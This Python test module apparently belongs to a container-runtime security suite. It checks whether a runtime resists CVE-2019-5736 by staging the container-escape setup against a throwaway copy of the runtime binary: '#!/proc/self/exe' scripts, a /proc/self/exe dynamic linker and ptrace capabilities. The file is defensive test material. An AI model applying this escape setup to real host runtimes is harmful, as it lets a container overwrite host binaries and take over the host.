"""Programs that want to write into the runtime's own (CVE-2019-5736)."""

import contextlib
import os
import shutil
import subprocess
import time

from attack import BUSYBOX, Failed, Runtime, attack, attacked, holds, need, program, supports, until

SECONDS = 5


class Victim:
    """A copy of a program, whose bytes are looked at afterwards. It is longer than the program by what no other program is."""

    def __init__(self, path, name):
        self.path = f"{os.environ['TMPDIR']}/{name}"
        with open(path, "rb") as file:
            self.bytes = file.read()
        self.bytes += os.urandom(1 + os.getpid() % 4096)
        self.write()

    def write(self):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(self.path)
        with open(self.path, "wb") as file:
            file.write(self.bytes)
        os.chmod(self.path, 0o755)

    def check(self):
        with open(self.path, "rb") as file:
            found = file.read()
        if found != self.bytes:
            self.write()  # It still has to clean up.
            raise Failed("the runtime's program was overwritten from inside a container")


def lie_in_wait(made, victim):
    """Starts a container whose process overwrites the victim when it sees it; what it says is in /said."""
    shutil.copy2(program("overwrite"), f"{made.rootfs}/bin/overwrite")
    shutil.copy2(program("interpreted", "-Wl,--dynamic-linker=/proc/self/exe"), f"{made.rootfs}/bin/interpreted")
    with open(f"{made.rootfs}/bin/script", "w") as file:
        file.write("#!/proc/self/exe\n")
    os.chmod(f"{made.rootfs}/bin/script", 0o755)
    sets = made.config["process"]["capabilities"]
    for name in ("bounding", "permitted", "effective"):
        sets[name] = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"]
    made.args(f"exec overwrite {SECONDS} {len(victim.bytes)} > /said")
    made.create()
    made.start()
    until(lambda: "ready" in said(made), "the attacker is ready")


def said(made):
    return made.read("rootfs/said")


@attack("CVE-2019-5736")
def an_unprotected_program(runtime):
    """The attacker gets into a program that enters the container without care: what follows would be seen."""
    with attacked(runtime) as (made, _):
        victim = Victim(BUSYBOX, "busybox-victim")
        lie_in_wait(made, victim)
        enter = [victim.path, "nsenter", "-t", str(made.state()["pid"]), "-p", "-m", "/bin/script"]
        end = time.monotonic() + SECONDS
        with contextlib.suppress(OSError):  # Overwritten, it cannot be executed any more.
            while time.monotonic() < end and "overwritten" not in said(made):
                subprocess.run(enter, check=False, capture_output=True)
        until(lambda: made.status() == "stopped", "the attacker ends", 10)
        need("overwritten" in said(made), "the attacker does not win here even against nsenter")


@attack("CVE-2019-5736")
def the_program_as_an_interpreter(runtime):
    """Entry points that have the runtime's program executed inside: by `#!/proc/self/exe`, and as the interpreter of an ELF file."""
    victim = Victim(runtime.path, "victim")
    copy = Runtime(victim.path)
    with attacked(runtime) as (waiting, _):
        lie_in_wait(waiting, victim)
        with attacked(copy) as (made, _):
            for name in ("script", "interpreted"):
                shutil.copy2(f"{waiting.rootfs}/bin/{name}", f"{made.rootfs}/bin/{name}")
            made.namespace("pid", path=f"/proc/{waiting.state()['pid']}/ns/pid")
            made.config["process"]["capabilities"] = waiting.config["process"]["capabilities"]
            enter(waiting, victim, lambda entry: run_entry(copy, made, entry))


def run_entry(copy, made, entry):
    made.config["process"]["args"] = [entry]
    made.save()
    copy.call("run", "--bundle", made.bundle, made.id)
    made.clean_up()


@attack("CVE-2019-5736", "CVE-2016-9962")
def the_program_that_executes_in_a_container(runtime):
    """`exec` enters while the container's process lies in wait for it."""
    supports(runtime, "exec")
    victim = Victim(runtime.path, "victim")
    copy = Runtime(victim.path)
    with attacked(copy) as (made, _):
        lie_in_wait(made, victim)
        enter(made, victim, lambda entry: copy.call("exec", made.id, entry))


def enter(waiting, victim, run):
    """Has the victim run programs in the container as long as the attacker is there."""
    end = time.monotonic() + SECONDS
    with contextlib.suppress(OSError):  # A program that was overwritten cannot be executed any more.
        while time.monotonic() < end:
            for entry in ("/bin/script", "/bin/interpreted", "/bin/true"):
                run(entry)
    until(lambda: waiting.status() == "stopped", "the attacker gives up", 10)
    victim.check()
    holds("overwritten" not in said(waiting), "the attacker could not write to a program of the runtime")
